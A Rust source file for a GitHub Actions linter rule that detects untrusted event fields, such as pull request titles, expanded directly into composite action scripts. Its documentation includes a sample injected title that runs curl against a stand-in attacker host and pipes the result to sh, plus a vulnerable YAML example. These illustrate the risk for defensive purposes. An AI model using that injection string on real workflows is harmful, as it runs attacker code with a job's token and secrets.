use crate::rule::{ActionInput, Context};

crate::declare_rule! {
    /// ## What it does
    /// Finds a `${{ }}` expression in a composite action's `run:` script (or the `script:` of
    /// `actions/github-script`) that expands text an outsider controls: a pull request's title,
    /// body or branch name, an issue or comment body, a commit message or author — the fields
    /// `untrusted-input-in-script` knows in workflows. A composite action runs in its caller's
    /// job, so the event is the caller's, whatever workflow uses the action.
    ///
    /// It does not report `${{ inputs.* }}`: what a caller passes is often a version or a path,
    /// and reporting every input would bury the real findings (pass inputs through `env:` all
    /// the same). Nor does it report booleans (`contains(...)`) or values passed through `env:`.
    ///
    /// ## Why is this bad?
    /// GitHub substitutes the expression into the script text before the shell reads it. A
    /// pull request titled `a"; curl -s https://evil.example/x | sh; echo "` then runs its own
    /// commands in every job that uses the action, with that job's token and secrets.
    ///
    /// ## Example
    /// ```yaml
    /// name: Greet
    /// description: Thanks the author
    /// runs:
    ///   using: composite
    ///   steps:
    ///     - run: echo "Thanks for ${{ github.event.pull_request.title }}"
    ///       shell: bash
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// name: Greet
    /// description: Thanks the author
    /// runs:
    ///   using: composite
    ///   steps:
    ///     - run: echo "Thanks for $TITLE"
    ///       shell: bash
    ///       env:
    ///         TITLE: ${{ github.event.pull_request.title }}
    /// ```
    ///
    /// ## References
    /// - [GitHub: security hardening, understanding the risk of script injections](https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections)
    /// - [zizmor: template-injection](https://docs.zizmor.sh/audits/#template-injection)
    pub static RULE = {
        code: "AC005",
        name: "action-untrusted-input-in-script",
        severity: Error,
        aliases: [],
        fix: None,
        default: true,
        check: GithubAction(check),
    }
}

fn check(input: &ActionInput<'_>, cx: &mut Context<'_>) {
    for script in input.action.steps.iter().filter_map(|s| s.script.as_ref()) {
        crate::rules::workflow::untrusted_input_in_script::report_untrusted(
            cx,
            script,
            "it can inject commands into every job that uses the action",
        );
    }
}
